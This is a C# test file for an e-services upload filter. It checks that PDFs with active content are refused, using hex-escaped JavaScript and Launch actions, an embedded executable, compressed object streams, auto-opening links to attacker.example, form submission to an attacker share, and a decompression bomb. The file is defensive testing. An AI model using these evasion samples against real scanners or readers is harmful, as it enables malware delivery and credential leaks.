using System.Net;
using System.Text;
using EServices.Tests.Features.Filing;
using EServices.Tests.Infrastructure;
using EServices.Web.Infrastructure.Storage;
using PdfSharp.Drawing;
using PdfSharp.Pdf;
using PdfSharp.Pdf.IO;

namespace EServices.Tests.Security;

/// <summary>The PDF active-content filter decides on the document as a reader decodes it: escaped names, objects packed
/// in compressed streams, revisions appended after %%EOF. Each evasion below is a well-formed PDF that the raw-byte
/// filter let through; a PDF that cannot be parsed is refused too.</summary>
[Collection(WebCollection.Name)]
public sealed class PdfActiveContentTests(HostFixture host)
{
    private const string Active = "le PDF contient du contenu actif (JavaScript, fichier joint ou lancement de programme). Numérisez ou enregistrez à nouveau le document, puis joignez-le.";
    private const string Unreadable = "le PDF est illisible ou endommagé. Numérisez ou enregistrez à nouveau le document, puis joignez-le.";

    private static readonly Dictionary<string, Func<byte[]>> Evasions = new()
    {
        ["JavaScript opening action, names hex-escaped (/J#61vaScript, /#4A#53)"] = () =>
            PdfForge.Document(PdfForge.OnePage("/OpenAction 4 0 R", "", "<< /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>")),
        ["/JS spelt /J#53 in a link's action"] = () =>
            PdfForge.Document(PdfForge.OnePage("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Jav#61Script /J#53 (app.alert\\(1\\)) >> >>")),
        ["/L#61unch opening action"] = () =>
            PdfForge.Document(PdfForge.OnePage("/OpenAction << /S /L#61unch /F (cmd.exe) >>")),
        ["embedded file, /Embedded#46ile(s)"] = () =>
            PdfForge.Document(PdfForge.OnePage("/Names << /Embedded#46iles << /Names [(a.exe) 4 0 R] >> >>", "",
                "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", PdfForge.Stream("/Type /Embedded#46ile", "MZ"))),
        ["JavaScript in a Flate-compressed object stream"] = () =>
            PdfForge.WithObjectStream(PdfForge.OnePage("/OpenAction 4 0 R"), ["<< /S /JavaScript /JS (app.alert(1)) >>"]),
        ["Launch in a Flate-compressed object stream, escaped too"] = () =>
            PdfForge.WithObjectStream(PdfForge.OnePage("", "/Annots [4 0 R]"), ["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (x.exe) >> >>"]),
        ["JavaScript in an incremental update after %%EOF"] = () =>
            PdfForge.Append(PdfForge.Document(PdfForge.OnePage()), new Dictionary<int, string>
            {
                [1] = "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                [4] = "<< /S /#4Aava#53cript /#4A#53 (app.alert\\(1\\)) >>",
            }),
        ["/AA on a page, opening a link by itself"] = () =>
            PdfForge.Document(PdfForge.OnePage("", "/AA << /O << /S /URI /URI (http://attacker.example/vu) >> >>")),
        ["/A#41 on a page"] = () =>
            PdfForge.Document(PdfForge.OnePage("", "/A#41 << /O 4 0 R >>", "<< /S /URI /URI (http://attacker.example/vu) >>")),
        ["opening action /S /JavaScript"] = () =>
            PdfForge.Document(PdfForge.OnePage("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
        ["opening action that follows a link without a click"] = () =>
            PdfForge.Document(PdfForge.OnePage("/OpenAction 4 0 R", "", "<< /S /URI /URI (http://attacker.example/vu) >>")),
        ["form that submits itself (/Subm#69tForm)"] = () =>
            PdfForge.Document(PdfForge.OnePage("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A << /S /Subm#69tForm /F (\\\\\\\\attacker\\\\share) >> >>")),
        ["XFA form (/XF#41)"] = () =>
            PdfForge.Document(PdfForge.OnePage("/AcroForm << /Fields [] /XF#41 4 0 R >>", "", PdfForge.Stream("", "<xdp/>"))),
        ["remote go-to (/GoT#6FR)"] = () =>
            PdfForge.Document(PdfForge.OnePage("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoT#6FR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit] >> >>")),
    };

    private static readonly Dictionary<string, Func<byte[]>> Broken = new()
    {
        ["truncated in the middle of an object"] = () => MultiPage()[..1200],
        ["garbage after the header"] = () => [.. "%PDF-1.7\n"u8, .. Enumerable.Range(0, 3000).Select(i => (byte)(i * 7919 % 251))],
        ["header only"] = () => "%PDF-1.4\n%%EOF\n"u8.ToArray(),
        ["decompression bomb in an object stream (64 MB of spaces)"] = () =>
            Bomb(),
        ["object stream behind a predictor"] = () =>
            PdfForge.WithObjectStream(PdfForge.OnePage("/OpenAction 4 0 R"), ["<< /S /GoTo /D [3 0 R /Fit] >>"], "/DecodeParms << /Predictor 12 /Columns 4 >>"),
        ["arrays nested 100 000 deep"] = () =>
            PdfForge.Document(PdfForge.OnePage("/Deep " + new string('[', 100_000) + new string(']', 100_000))),
        ["stream without endstream"] = () =>
            [.. PdfForge.Document(PdfForge.OnePage())[..^6], .. "4 0 obj\n<< /Length 999999 >>\nstream\nxxxx"u8],
    };

    public static TheoryData<string> EvasionNames => [.. Evasions.Keys];

    public static TheoryData<string> BrokenNames => [.. Broken.Keys];

    [Theory]
    [MemberData(nameof(EvasionNames))]
    public async Task A_PDF_with_active_content_however_it_is_written_is_refused_next_to_its_field_and_not_stored(string evasion) =>
        await AssertRefusedAsync(Evasions[evasion](), Active);

    [Theory]
    [MemberData(nameof(BrokenNames))]
    public async Task A_PDF_that_cannot_be_parsed_within_bounds_is_refused_next_to_its_field_and_not_stored(string broken) =>
        await AssertRefusedAsync(Broken[broken](), Unreadable);

    [Fact]
    public async Task Ordinary_PDFs_still_pass_a_multipage_document_with_a_link_an_opening_page_and_object_streams()
    {
        foreach (var (pdf, what) in new[]
        {
            (TestFiles.Pdf().Content, "the filing tests' fixture"),
            (MultiPage(), "a PDFsharp document of 3 pages with a web link"),
            (PdfForge.Document(PdfForge.OnePage("/OpenAction [3 0 R /Fit] /PageMode /UseNone")), "opening at page 1"),
            (PdfForge.WithObjectStream(PdfForge.OnePage("/OpenAction 4 0 R /Metadata 5 0 R"), ["<< /S /GoTo /D [3 0 R /Fit] >>", "<< /Title (Bulletin JSON) >>"]), "object streams"),
            (PdfForge.Append(PdfForge.Document(PdfForge.OnePage()), new Dictionary<int, string> { [4] = "<< /Producer (scanner) >>" }), "an incremental update"),
        })
        {
            using var session = host.NewSession();
            var user = await TestUsers.SignUpAsync(session);
            var step3 = await AttestationJourney.ToDocumentsStepAsync(session);
            var review = await session.SubmitAsync(step3, "Continuer vers le récapitulatif", files: new Dictionary<string, Upload>
            {
                ["cnib"] = new("cnib.pdf", pdf, "application/pdf"),
                ["bulletin"] = TestFiles.Png(),
            });
            Assert.True(review.Status == HttpStatusCode.OK && review.Url.EndsWith("/recapitulatif", StringComparison.Ordinal), $"{what}: {review.ErrorFor("cnib")}");
            Assert.Equal(1L, await CnibFilesAsync(user.Email));
        }
    }

    [Fact]
    public void PDFsharp_reads_the_objects_packed_in_an_object_stream_and_the_check_sees_them()
    {
        var pdf = PdfForge.WithObjectStream(PdfForge.OnePage("/OpenAction 4 0 R"), ["<< /S /JavaScript /JS (app.alert(1)) >>"]);
        Assert.DoesNotContain("JavaScript", Encoding.Latin1.GetString(pdf), StringComparison.Ordinal); // hidden from the raw bytes

        using var document = PdfReader.Open(new MemoryStream(pdf), PdfDocumentOpenMode.Import);
        Assert.Contains(document.Internals.GetAllObjects(), o => o is PdfDictionary d && d.Elements.GetName("/S") == "/JavaScript");
        Assert.Equal(PdfCheck.Active, PdfCheck.Problem(pdf));
    }

    private async Task AssertRefusedAsync(byte[] pdf, string message)
    {
        using var session = host.NewSession();
        var user = await TestUsers.SignUpAsync(session);
        var step3 = await AttestationJourney.ToDocumentsStepAsync(session);

        var refused = await session.SubmitAsync(step3, "Continuer vers le récapitulatif", files: new Dictionary<string, Upload>
        {
            ["cnib"] = new("cnib.pdf", pdf, "application/pdf"),
        });
        Assert.Equal(HttpStatusCode.BadRequest, refused.Status);
        Assert.Equal($"« Copie de la CNIB » : {message}", refused.ErrorFor("cnib"));
        Assert.Equal(0L, await CnibFilesAsync(user.Email));
    }

    private async Task<long> CnibFilesAsync(string email) => (long)(await host.ScalarAsync(
        "SELECT count(*) FROM attachments a JOIN requests r ON r.id = a.request_id JOIN \"AspNetUsers\" u ON u.id = r.applicant_id WHERE u.email = @e AND a.field_key = 'cnib'",
        ("e", email)))!;

    /// <summary>64 MB of spaces deflate to about 64 KB: far under the upload limit, far over what an object stream needs.</summary>
    private static byte[] Bomb()
    {
        var pdf = PdfForge.WithObjectStream(PdfForge.OnePage(), ["<< >>"]);
        var raw = new byte[64 * 1024 * 1024];
        Array.Fill(raw, (byte)' ');
        var spaces = PdfForge.Deflate(raw);
        return PdfForge.Append(pdf, new Dictionary<int, string>
        {
            [9] = $"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {spaces.Length} >>\nstream\n{Encoding.Latin1.GetString(spaces)}\nendstream",
        });
    }

    private static byte[] MultiPage()
    {
        using var document = new PdfDocument();
        for (var i = 0; i < 3; i++)
        {
            var page = document.AddPage();
            using (var graphics = XGraphics.FromPdfPage(page))
            {
                graphics.DrawRectangle(XBrushes.SteelBlue, 50, 50 + (i * 10), 200, 100);
            }

            page.AddWebLink(new PdfRectangle(new XRect(50, 50, 200, 100)), "https://www.fonction-publique.gov.bf/");
        }

        using var output = new MemoryStream();
        document.Save(output);
        return output.ToArray();
    }
}
